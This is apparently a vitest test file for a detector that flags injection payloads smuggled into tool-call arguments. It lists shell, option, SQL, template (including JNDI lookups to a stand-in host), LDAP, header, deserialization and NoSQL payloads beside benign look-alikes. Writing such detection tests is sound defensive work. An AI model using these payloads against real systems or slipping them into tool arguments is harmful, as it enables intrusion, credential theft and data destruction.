import { describe, expect, test } from 'vitest'
import { isSerialised, smuggled, smuggledObjects, smuggledOption } from './smuggled.ts'
import { linesOf } from './tool-harness.ts'

/** What arguments of plain data carry, and plain data that only looks odd. */

describe('carried', () => {
  for (const [name, value, expected] of [
    // a shell
    ['branch', 'main; cat /etc/shadow', 'shell'],
    ['branch', 'main\nrm -rf ~', 'shell'],
    ['branch', '$(id)', 'shell'],
    ['branch', 'x`id`', 'shell'],
    ['city', 'Paris; curl x.example | sh', 'shell'],
    ['name', 'x && rm -rf ~', 'shell'],
    ['user', 'root; id', 'shell'],
    ['user', 'root;/bin/sh -c id', 'shell'],
    ['domain', 'example.com|id', 'shell'],
    ['output', '|touch /tmp/x', 'shell'],
    ['output', '| sh', 'shell'],
    ['database', 'prod || wget http://x.example/a', 'shell'],
    ['host_name', 'a%0acurl http://x.example', 'shell'],
    ['name', 'a;cat$\u007bIFS}/etc/passwd', 'shell'],
    ['name', 'x" & do shell script "id" & "', 'shell'],
    ['name', 'x & python3 -c "1"', 'shell'],
    ['image', 'alpine; nc 10.0.0.1 99', 'shell'],
    // options
    ['image', '--privileged', 'option'],
    ['package_version', '--index-url=http://x.example', 'option'],
    ['tag', 'v1 --privileged', 'option'],
    ['options', '--to-command=sh', 'option'],
    ['server', '-oProxyCommand=id', 'option'],
    ['input', '-e sh -c id', 'option'],
    ['repository', 'ext::sh -c id', 'option'],
    ['module', 'git+ssh://-oProxyCommand=id/x', 'option'],
    ['picture', 'msl:/tmp/x.msl', 'option'],
    // SQL
    ['user_id', "1' OR '1'='1", 'sql'],
    ['user_id', '1) OR (1=1', 'sql'],
    ['user_id', "x' OR 1=1#", 'sql'],
    ['user_id', "admin'--", 'sql'],
    ['user_id', '1; DROP TABLE users', 'sql'],
    ['user_id', '1 UNION ALL SELECT a FROM b', 'sql'],
    ['user_id', '1/**/UNION/**/SELECT/**/1', 'sql'],
    ['user_id', '%27%20OR%201%3D1--', 'sql'],
    ['user_id', "1' AND SLEEP(5)", 'sql'],
    ['user_id', "1' WAITFOR DELAY '0:0:5'", 'sql'],
    ['filter', "' || (SELECT a FROM b) || '", 'sql'],
    ['filter', '1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)', 'sql'],
    // templates
    ['name', '{{7*7}}', 'template'],
    ['name', '$\u007b7*7}', 'template'],
    ['name', '<%= 7*7 %>', 'template'],
    ['name', '{{config.items()}}', 'template'],
    ['name', '{{ "".__class__ }}', 'template'],
    ['name', '{% import os %}{{ os.popen("id") }}', 'template'],
    ['name', '$\u007bjndi:ldap://x.example/a}', 'template'],
    ['name', '$\u007b$\u007blower:j}ndi:ldap://x.example/a}', 'template'],
    ['name', '*{T(java.lang.Runtime).getRuntime()}', 'template'],
    ['name', '<#assign x="y"?new()>', 'template'],
    // the rest
    ['uid', '*)(uid=*))(|(uid=*', 'filter'],
    ['uid', 'admin)(&)', 'filter'],
    ['email', 'a@b.example\nBcc: c@d.example', 'header'],
    ['agent', 'x%0d%0aSet-Cookie: a=b', 'header'],
  ] as const) {
    test(`${name}: ${value}`, () => expect(smuggled(name, value)).toBe(expected))
  }
})

describe('plain', () => {
  for (const [name, value] of [
    ['city', 'São Paulo; Brazil'],
    ['city', "Coeur d'Alene"],
    ['name', 'AT&T'],
    ['name', 'Johnson & Johnson; Inc.'],
    ['name', 'Yahoo! | Verizon'],
    ['name', "O'Brien -- jr"],
    ['name', 'Tools | bash | git'],
    ['name', 'cats; find homes'],
    ['name', 'earn && make money'],
    ['name', 'all-you-can-eat'],
    ['name', 'Ann {Smith}'],
    ['name', 'Hello {{ name }}, total $\u007b amount }'],
    ['name', 'price $5 (new) | `x`'],
    ['name', 'see `git` and `cat`'],
    ['name', 'a\nb'],
    ['name', '<b>Ann</b>'],
    ['name', 'C# -- the language'],
    ['fields', 'name;id;uname'],
    ['columns', 'id|name|whoami'],
    ['languages', 'python; perl; bash'],
    ['kind', 'name|id'],
    ['expression', '(1 + 2) * 3; 4'],
    ['expression', '-5 + 3'],
    ['expression', '2**10 | 3 & 4'],
    ['equation', 'x^2 - 3x + 2 = 0'],
    ['temperature', '-40'],
    ['word', '-ing'],
    ['options', '--verbose'],
    ['branch', 'feature/a-b_c#1'],
    ['where', 'age > 5 OR name = "x"'],
    ['filter', "status = 'open' and owner = 'me'"],
    ['filter', 'created > 2024-01-01 AND total < 50'],
    ['filter', 'and(or(a,b),c)'],
    ['jql', "project = X AND status in ('Open') ORDER BY created"],
    ['cql', 'type=page and text ~ "union of sets"'],
    ['cron', '*/5 * * * *'],
    ['mime', 'text/html; charset=utf-8'],
    ['path_template', '/users/{id}/items/{item}'],
    ['phone', '+49 (0) 30 1234'],
    ['sort', '-created_at'],
    ['version', '>=1.2 <2 || ^3'],
    ['accept', 'a;b;c|d&e'],
    ['emoticon', ':-)(-:'],
  ] as const) {
    test(`${name}: ${value}`, () => expect(smuggled(name, value)).toBe(null))
  }
})

describe('options in patterns and addresses', () => {
  for (const [text, expected] of [
    ['--pre=/tmp/x.sh', 'option'],
    ['--open-files-in-pager=touch x', 'option'],
    ['-exec rm {} ;', 'option'],
    ['*.py -delete', 'option'],
    ['ext::sh -c id', 'option'],
    ['ssh://-oProxyCommand=x/y', 'option'],
    ['--pre', null],
    ['-exec', null],
    ['-> Result<', null],
    ['a && b; $(c) | `d`', null],
    ['https://example.com/?a=1;b=2&c=d|e', null],
  ] as const) {
    test(text, () => expect(smuggledOption(text)).toBe(expected))
  }
})

describe('objects where values belong', () => {
  for (const [text, expected] of [
    ['O:8:"Evil":1:{s:3:"cmd";s:2:"id";}', true],
    ['rO0ABXNyABFq', true],
    ['!!python/object/apply:os.system ["id"]', true],
    ['!ruby/object:Gem::Installer {}', true],
    ['a: 1', false],
    ['Objects: 3', false],
    ['text !important', false],
  ] as const) {
    test(text, () => expect(isSerialised(text)).toBe(expected))
  }
  for (const [args, expected] of [
    [{ user: 'a', password: { $ne: null } }, ['/password/$ne']],
    [{ filter: { age: { $gt: 5 } } }, []],
    [{ login: { token: [{ $regex: '.*' }] } }, ['/login/token/0/$regex']],
    [JSON.parse('{"config":{"__proto__":{"admin":true}}}'), ['/config/__proto__']],
    [{ constructor: 'x', toString: 1 }, []],
  ] as const) {
    test(JSON.stringify(args), () => expect(smuggledObjects(args).map(({ pointer }) => pointer)).toEqual(expected))
  }
})

describe('in calls', () => {
  for (const [tool, args, expected] of [
    ['acme_get', { id: "1' OR '1'='1" }, ["possible execute code 1' OR '1'='1"]],
    ['acme_get', { name: 'O’Brien; Ltd.' }, []],
    ['acme_get', { description: '$(id); `id`', body: "' OR 1=1--", content: '{{7*7}}' }, []],
    ['acme_greet', { value: 'x\r\nSet-Cookie: a=b' }, ['possible execute code x\r\nSet-Cookie: a=b']],
    ['Grep', { pattern: '--pre=/tmp/x' }, []],
    ['Agent', { name: '$(id)', subagent_type: '{{7*7}}' }, []],
  ] as const) {
    test(`${tool} ${JSON.stringify(args)}`, () => expect(linesOf(tool, args).filter((line) => line.includes(' code '))).toEqual(expected))
  }
})

test('hostile values take bounded time', () => {
  for (const part of ["' or ", ';', '$(', '{{', '--', '/*', "'#", ' union ', '&&cat ', ')(', '%27', '\n', '-exec a ']) {
    expect(['string', 'object']).toContain(typeof smuggled('name', part.repeat(50_000)))
  }
})
